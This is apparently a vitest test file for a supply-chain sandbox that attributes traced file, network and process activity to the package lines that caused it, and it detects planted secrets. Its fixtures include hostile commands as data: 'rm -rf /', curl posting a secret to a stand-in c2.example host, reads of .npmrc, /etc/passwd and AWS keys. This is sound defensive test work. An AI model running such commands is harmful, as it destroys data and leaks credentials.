import { describe, expect, it } from 'vitest'
import type { Act, Process } from './act.ts'
import { HookReader } from './hooks.ts'
import type { Seeker } from './honey.ts'
import { joinActs } from './join.ts'
import type { JoinParts } from './join.ts'
import { placeOf } from './places.ts'
import type { PlaceOptions } from './places.ts'
import type { OnWire } from './wire.ts'

const INDEX = '/home/u/work/node_modules/left/index.js'
const DRIVER = '/run/driver.cjs'
const at = (line: number, file = INDEX): unknown[] => [[file, line, 1], [DRIVER, 9, 1]]

/** Process 10 is a driver's Node that loads `left`; 11 its child, which has the number 3 inside. */
const PROCESSES: Process[] = [
  { pid: 10, parent: null, argv: ['node', DRIVER], program: '/usr/bin/node', cwd: '/home/u', started: 0, ended: null, exit: null, signal: null },
  { pid: 11, parent: 10, argv: ['sh'], program: '/bin/sh', cwd: '/home/u', started: 1_000, ended: null, exit: null, signal: null },
  { pid: 12, parent: 11, argv: ['curl'], program: '/usr/bin/curl', cwd: '/home/u', started: 1_100, ended: null, exit: null, signal: null },
]
const INNER = new Map([[10, 2], [11, 3], [12, 4]])
const START = { k: 'start', p: 2, t: 100, v: '/usr/bin/node', s: [] }

const call = (kind: Act['kind'], target: string, more: Partial<Act> = {}): Act => ({ kind, target, at: 1_000, pid: 10, done: true, seen: ['call'], by: null, ...more })

function hooksOf(events: readonly object[]) {
  const reader = new HookReader()
  reader.push(Buffer.from(events.map((event) => `${JSON.stringify(event)}\n`).join('')))
  return reader.end()
}

function joined(acts: readonly Act[], events: readonly object[], more: Partial<JoinParts> & { places?: PlaceOptions; routes?: Act[] } = {}) {
  const { places = { subject: 'left' }, routes = [], ...parts } = more
  return joinActs({
    traced: { acts: [...acts], routes, processes: PROCESSES, inner: INNER, dropped: {}, unreadable: 0, began: true },
    hooks: hooksOf(events), wire: [], disk: [], finder: null, ...parts,
  }, { begin: 0, places })
}

const told = (acts: readonly Act[]): string[] => acts.map(({ kind, target, by, seen, unhooked }) => `${kind} ${target} [${seen.join()}] ${by ? `${by.package} ${by.file}:${by.line}` : '-'}${unhooked ? ' unhooked' : ''}`)

describe('calls and hooks', () => {
  it.each<[string, Act, object, string]>([
    ['a read', call('read', '/home/u/.npmrc'), { k: 'read', p: 2, t: 990, v: '/home/u/.npmrc', s: at(3) }, 'read /home/u/.npmrc [call,hook] left index.js:3'],
    ['a read through a pool of threads, much later', call('read', '/home/u/.npmrc'), { k: 'read', p: 2, t: 200, v: '/home/u/.npmrc', s: at(3) }, 'read /home/u/.npmrc [call,hook] left index.js:3'],
    ['a copy, which reads', call('read', '/a'), { k: 'copy', p: 2, t: 999, v: '/a', o: '/b', s: at(3) }, 'read /a [call,hook] left index.js:3'],
    ['a rename, told by either name', call('rename', '/a', { other: '/b' }), { k: 'rename', p: 2, t: 999, v: '/x/a', o: '/b', s: at(3) }, 'rename /a [call,hook] left index.js:3'],
    ['a name', call('resolve', 'c2.example'), { k: 'connect', p: 2, t: 999, v: 'c2.example:443', n: 'c2.example', s: at(3) }, 'resolve c2.example [call,hook] left index.js:3'],
    ['a connection by its name’s port', call('connect', '198.18.0.9:443'), { k: 'connect', p: 2, t: 999, v: 'c2.example:443', s: at(3) }, 'connect 198.18.0.9:443 [call,hook] left index.js:3'],
    ['a connection by a URL', call('connect', '198.18.0.9:443'), { k: 'request', p: 2, t: 999, v: 'https://c2.example/x', s: at(3) }, 'connect 198.18.0.9:443 [call,hook] left index.js:3'],
    ['an IPv6 connection', call('connect', '[2001:db8::1]:80'), { k: 'connect', p: 2, t: 999, v: '2001:db8::1:80', s: at(3) }, 'connect [2001:db8::1]:80 [call,hook] left index.js:3'],
    ['a shell line', call('exec', '/bin/sh', { pid: 11, argv: ['/bin/sh', '-c', 'id'] }), { k: 'exec', p: 2, t: 990, v: 'id', a: ['id'], s: at(3) }, 'exec /bin/sh [call,hook] left index.js:3'],
    ['a program that replaces who told', call('exec', '/usr/bin/id', { argv: ['id'] }), { k: 'exec', p: 2, t: 990, v: '/usr/bin/id', a: ['id'], s: at(3) }, 'exec /usr/bin/id [call,hook] left index.js:3'],
    ['a signal, which names nothing', call('signal', '77'), { k: 'signal', p: 2, t: 990, v: '5', s: at(3) }, 'signal 77 [call,hook] left index.js:3'],
    ['a hook of another process', call('read', '/a'), { k: 'read', p: 4, t: 999, v: '/a', s: at(3) }, 'read /a [call] - unhooked'],
    ['a hook that came after', call('read', '/a'), { k: 'read', p: 2, t: 1_100, v: '/a', s: at(3) }, 'read /a [call] - unhooked'],
    ['a hook about something else', call('write', '/a'), { k: 'write', p: 2, t: 999, v: '/b', s: at(3) }, 'write /a [call] - unhooked'],
  ])('%s', (_name, act, event, expected) => {
    expect(told(joined([act], [START, event]).acts)).toContain(expected)
  })

  it('one hook stands behind several calls, and one call is told once', () => {
    const { acts } = joined([call('resolve', 'c2.example'), call('connect', '198.18.0.9:443', { at: 1_010 })], [START, { k: 'request', p: 2, t: 990, v: 'https://c2.example/', s: at(5) }, { k: 'connect', p: 2, t: 991, v: 'c2.example:443', s: at(5) }])
    expect(told(acts)).toEqual(['request https://c2.example/ [hook] left index.js:5', 'resolve c2.example [call,hook] left index.js:5', 'connect 198.18.0.9:443 [call,hook] left index.js:5'])
  })

  it('what a child does is whose line started it, however far down', () => {
    const { acts } = joined([
      call('exec', '/bin/sh', { pid: 11, argv: ['sh', '-c', 'curl c2.example'] }), call('exec', '/usr/bin/curl', { pid: 12, at: 1_100, argv: ['curl', 'c2.example'] }), call('connect', '198.18.0.9:80', { pid: 12, at: 1_200 }),
    ], [START, { k: 'exec', p: 2, t: 995, v: 'curl c2.example', a: ['curl c2.example'], s: at(12) }])
    expect(told(acts).map((line) => line.split('] ')[1])).toEqual(['left index.js:12', 'left index.js:12', 'left index.js:12'])
  })

  it.each<[string, Act, object[], boolean]>([
    ['of an interpreter without any hooks', call('connect', '192.0.2.1:80'), [], true],
    ['of an interpreter that told of something else', call('connect', '192.0.2.1:80'), [START, { k: 'read', p: 2, t: 990, v: '/a', s: [] }], true],
    ['before its hooks began', call('read', '/etc/passwd', { at: 50 }), [START], false],
    ['of a package manager itself', call('connect', '192.0.2.1:80'), [{ ...START, tool: true }], false],
    ['of a program that has no hooks', call('connect', '192.0.2.1:80', { pid: 12 }), [START], false],
    ['that loads code', call('read', '/home/u/x.mjs'), [START], false],
    ['that was refused', call('refused', 'bpf'), [START], false],
  ])('an act %s is unhooked or not', (_name, act, events, expected) => {
    expect(joined([act], events).acts[0]?.unhooked ?? false).toBe(expected)
  })

  it('of a child that is an interpreter and lost its hooks is unhooked, and its starter’s', () => {
    const bare: Process = { pid: 13, parent: 10, argv: ['node', '-e', 'x'], program: '/usr/bin/node', cwd: null, started: 1_000, ended: null, exit: null, signal: null }
    const { acts } = joinActs({
      traced: { acts: [call('exec', '/usr/bin/node', { pid: 13, argv: ['node', '-e', 'x'] }), call('connect', '192.0.2.1:80', { pid: 13, at: 1_100 })], routes: [], processes: [...PROCESSES, bare], inner: new Map([...INNER, [13, 5]]), dropped: {}, unreadable: 0, began: true },
      hooks: hooksOf([START, { k: 'exec', p: 2, t: 990, v: 'node', a: ['node', '-e', 'x'], s: at(7) }]), wire: [], disk: [], finder: null,
    }, { begin: 0, places: { subject: 'left' } })
    expect(told(acts)).toEqual(['exec /usr/bin/node [call,hook] left index.js:7', 'connect 192.0.2.1:80 [call] left index.js:7 unhooked'])
  })

  it('tells what hooks alone see, each once, and believes no call that was not made', () => {
    const { acts } = joined([], [
      START, { k: 'environment', p: 2, t: 500, v: 'AWS_SECRET_ACCESS_KEY', s: at(1) }, { k: 'sleep', p: 2, t: 501, v: 'setTimeout', ms: 600_000, s: at(2) }, { k: 'exec', p: 2, t: 502, v: 'rm', a: ['rm', '-rf', '/'], s: at(3) },
      { k: 'write', p: 2, t: 503, v: '/etc/passwd', s: at(4) }, { k: 'resolve', p: 2, t: 504, v: '192.0.2.1', s: at(4) }, { k: 'code', p: 2, t: 505, v: 'a'.repeat(64), f: 'Function', n: 30, x: 'return 1', s: at(6) },
      { k: 'request', p: 2, t: 506, v: 'https://c2.example/', f: 'fetch', s: at(7) }, { k: 'request', p: 2, t: 507, v: 'https://c2.example/', f: 'undici', s: at(8) },
    ])
    expect(told(acts)).toEqual(['environment AWS_SECRET_ACCESS_KEY [hook] left index.js:1', 'sleep setTimeout [hook] left index.js:2', 'request https://c2.example/ [hook] left index.js:7'])
  })

  it('code without a file is its starter’s: a thread made of text', () => {
    const { acts } = joined([], [START, { k: 'worker', p: 2, t: 400, v: 'code', s: at(8) }, { k: 'environment', p: 2, w: 1, t: 500, v: 'HOME', s: [['[worker eval]', 1, 1]] }])
    expect(told(acts)).toEqual(['environment HOME [hook] left index.js:8'])
  })
})

const wire = (kind: string, more: object): OnWire => ({ kind, at: 1_050, connection: 1, from: { address: '10.0.0.2', port: 5 }, to: { address: '198.18.0.9', port: 443 }, name: 'c2.example', honey: [], ...more }) as unknown as OnWire
const BODY = { size: 6, sha256: 'b'.repeat(64), sample: Buffer.from('secret').toString('base64') }
const HONEY = [{ token: 'npm-token', encodings: ['base64'], where: 'body' as const }]

describe('the wire', () => {
  const connect = call('connect', '198.18.0.9:443')
  const http = (more: object = {}) => wire('http', { method: 'POST', url: 'https://c2.example/x', status: 200, headers: [], body: BODY, tls: true, proxy: null, script: 'none', malformed: null, honey: HONEY, ...more })

  it('gives a request to the process and line that connected, and its bytes to no other act', () => {
    const { acts } = joined([connect, call('send', '198.18.0.9:443', { at: 1_020, bytes: 400 })], [START, { k: 'connect', p: 2, t: 995, v: 'c2.example:443', s: at(4) }], { wire: [http()] })
    expect(told(acts)).toEqual(['connect 198.18.0.9:443 [call,hook,wire] left index.js:4', 'request https://c2.example/x [wire] left index.js:4'])
    expect(acts[1]).toMatchObject({ pid: 10, method: 'POST', bytes: 6, honey: HONEY, sample: Buffer.from('secret') })
    expect(acts[0]).toMatchObject({ name: 'c2.example' })
  })

  it('tells a request once that a hook named, too, also where two go over one connection', () => {
    const { acts } = joined([connect], [START, { k: 'request', p: 2, t: 990, v: 'https://c2.example/x', s: at(4) }, { k: 'request', p: 2, t: 1_040, v: 'https://c2.example/y', s: at(5) }], { wire: [http(), http({ at: 1_060, url: 'https://c2.example/y' })] })
    expect(told(acts).filter((line) => line.startsWith('request'))).toEqual(['request https://c2.example/x [hook,wire] left index.js:4', 'request https://c2.example/y [hook,wire] left index.js:5'])
  })

  it('names addresses that it gave out', () => {
    const { acts } = joined([call('resolve', 'c2.example'), connect], [], { wire: [wire('dns', { at: 1_001, connection: 0, type: 'A', transport: 'udp', answers: ['198.18.0.9'] })] })
    expect(acts).toMatchObject([{ kind: 'resolve', seen: ['call', 'wire'] }, { kind: 'connect', name: 'c2.example' }])
  })

  it('tells what nobody is known to have called for as its own', () => {
    const { acts } = joined([], [], { wire: [wire('dns', { type: 'TXT', transport: 'tcp', answers: [] }), http(), wire('udp', { received: BODY, to: { address: '192.0.2.7', port: 9 }, name: null })] })
    expect(acts.map(({ kind, pid, target, seen }) => [kind, pid, target, seen])).toEqual([['resolve', 0, 'c2.example', ['wire']], ['request', 0, 'https://c2.example/x', ['wire']], ['send', 0, '192.0.2.7:9', ['wire']]])
  })

  it('puts what raw bytes were to the act that sent them', () => {
    const { acts } = joined([call('connect', '198.18.0.9:4444'), call('send', '198.18.0.9:4444', { at: 1_010, bytes: 6 })], [], { wire: [wire('tcp', { to: { address: '198.18.0.9', port: 4444 }, protocol: 'raw', tls: false, received: BODY, sent: 0, says: null, honey: HONEY })] })
    expect(acts).toMatchObject([{ kind: 'connect', seen: ['call', 'wire'] }, { kind: 'send', seen: ['call', 'wire'], honey: HONEY }])
  })
})

describe('datagrams', () => {
  const route = call('connect', '192.0.2.7:9')

  it('that only found a route are no acts; those that went out belong to who gave the socket its address', () => {
    expect(joined([], [], { routes: [route] }).acts).toEqual([])
    const { acts } = joined([], [START, { k: 'send', p: 2, t: 995, v: '192.0.2.7:9', s: at(4) }], { routes: [route], wire: [wire('udp', { connection: 0, received: BODY, to: { address: '192.0.2.7', port: 9 }, name: null })] })
    expect(told(acts)).toEqual(['connect 192.0.2.7:9 [call,hook,wire] left index.js:4', 'send 192.0.2.7:9 [wire] left index.js:4'])
  })
})

describe('secrets', () => {
  const finder: Seeker = { find: (bytes) => (Buffer.from(bytes).includes('planted-secret') ? [{ token: 'npm-token', encodings: [] }] : []), findInName: (name) => (name.includes('planted') ? [{ token: 'npm-token', encodings: ['labels'] }] : []) }

  it('are found in arguments, names, URLs, what was sent, and what is on the disk', () => {
    const { acts } = joined([
      call('exec', '/usr/bin/curl', { argv: ['curl', '-d', 'planted-secret'] }), call('resolve', 'planted.c2.example'), call('send', '192.0.2.1:9', { sample: Buffer.from('planted-secret') }), call('write', '/tmp/x'), call('write', '/tmp/x', { at: 1_001 }), call('write', '/tmp/y'),
    ], [START, { k: 'request', p: 2, t: 2_000, v: 'https://c2.example/planted-secret', s: [] }], { finder, disk: [{ path: '/tmp/x', what: 'created', size: 99, content: Buffer.from('planted-secret') }] })
    expect(acts.map(({ kind, honey }) => `${kind} ${honey?.map(({ where }) => where).join() ?? ''}`)).toEqual(['exec argument', 'resolve name', 'send body', 'write ', 'write ', 'write file', 'request url'])
    expect(acts[5]).toMatchObject({ target: '/tmp/x', bytes: 99, seen: ['call', 'disk'] })
  })
})

describe('places', () => {
  it.each<[string, PlaceOptions, string | null, string]>([
    ['/w/node_modules/a/node_modules/@s/b/lib/x.js', {}, '@s/b', 'lib/x.js'],
    ['/w/node_modules/.pnpm/a@1.0.0/node_modules/a/x.js', {}, 'a', 'x.js'],
    ['/usr/lib/node_modules/npm/lib/cli.js', {}, null, '/usr/lib/node_modules/npm/lib/cli.js'],
    ['/usr/lib/node_modules/npm/node_modules/@npmcli/promise-spawn/lib/index.js', { subject: 'left' }, null, '/usr/lib/node_modules/npm/node_modules/@npmcli/promise-spawn/lib/index.js'],
    ['/w/node_modules/npm/lib/cli.js', {}, 'npm', 'lib/cli.js'],
    ['/venv/lib/python3.12/site-packages/yaml/__init__.py', { modules: new Map([['yaml', 'pyyaml']]) }, 'pyyaml', 'yaml/__init__.py'],
    ['/venv/lib/python3.12/site-packages/six.py', {}, 'six', 'six.py'],
    ['/venv/lib/python3.12/site-packages/pip/_internal/cli.py', {}, null, '/venv/lib/python3.12/site-packages/pip/_internal/cli.py'],
    ['/venv/lib/python3.12/site-packages/pip/_internal/cli.py', { subject: 'pip' }, 'pip', 'pip/_internal/cli.py'],
    ['/tmp/pip-install-k2_x/evil-pkg_0123456789abcdef0123456789abcdef/setup.py', { subject: 'evil_pkg' }, 'evil_pkg', 'setup.py'],
    ['/tmp/pip-req-build-a1b2/setup.py', { subject: 'evil' }, 'evil', 'setup.py'],
    ['/root/go/pkg/mod/example.com/!big/mod@v1.2.3/a/b.go', {}, 'example.com/Big/mod', 'a/b.go'],
    ['/w/src/x.js', { folders: [{ folder: '/w/', package: 'mine' }, { folder: '/w/src/', package: 'inner' }] }, 'inner', 'x.js'],
    ['/w/driver.cjs', {}, null, '/w/driver.cjs'],
    ['/w/node_modules/__proto__/x.js', {}, '__proto__', 'x.js'],
  ])('%s', (file, options, name, rest) => {
    expect(placeOf([file, 1, 2], options)).toEqual({ package: name, file: rest, line: 1, column: 2 })
  })
})

describe('what hooks wrote', () => {
  it('takes no more time than it has lines, whatever they claim', () => {
    const worker = { k: 'worker', p: 2, t: 500, v: 'x', s: at(7) }
    const flood = Array.from({ length: 30_000 }, (_, n) => ({ k: 'environment', p: 2, t: 400 + n / 100, v: `V${n}`, s: [['[worker eval]', 1, 1]] }))
    const { acts, dropped } = joined([], [START, worker, ...flood, { k: 'environment', p: 2, t: 900, v: '*', s: at(8) }])
    expect(acts).toHaveLength(20_001)
    expect(acts.pop()).toMatchObject({ target: '*', by: { file: 'index.js', line: 8 } })
    expect(dropped).toEqual({ environment: 10_000 })
    expect(new Set(acts.map(({ at, by }) => `${at >= 500} ${by?.file}:${by?.line}`))).toEqual(new Set(['false [worker eval]:1', 'true index.js:7']))
  }, 20_000)

  it('cannot make its process a package manager’s', () => {
    const forged = { k: 'start', p: 2, t: 50, v: '/usr/bin/node', tool: true, s: [] }
    expect(told(joined([call('read', '/home/u/.npmrc')], [forged, START]).acts)).toEqual(['read /home/u/.npmrc [call] - unhooked'])
    expect(told(joined([call('read', '/home/u/.npmrc')], [{ ...START, tool: true }]).acts)).toEqual(['read /home/u/.npmrc [call] -'])
  })

  it('is believed as far as its form goes', () => {
    const reader = new HookReader()
    reader.push(Buffer.from([
      'nonsense', '[]', 'null', '{"k":1,"p":1,"t":1}', '{"k":"x","p":-1,"t":1}', '{"k":"x","p":1,"t":"1"}', `{"k":"x","p":1,"t":1,"v":"${'a'.repeat(200_000)}"}`,
      '{"k":"read","p":1,"t":5,"v":{"a":1},"a":"x","s":[["/f",1,2],["/f",-1],"x",[1,2],["/g",3,null]],"__proto__":{"tool":true}}', '{"k":"read","p":1,"t":2}', '{"k":"cut","p":1',
    ].join('\n')))
    const { events, unreadable } = reader.end()
    expect({ unreadable, events: events.map(({ kind, at, target, stack, tool }) => ({ kind, at, target, stack, tool })) }).toEqual({
      unreadable: 8, events: [{ kind: 'read', at: 2, target: '', stack: [], tool: false }, { kind: 'read', at: 5, target: '', stack: [['/f', 1, 2], ['/g', 3, null]], tool: false }],
    })
  })
})
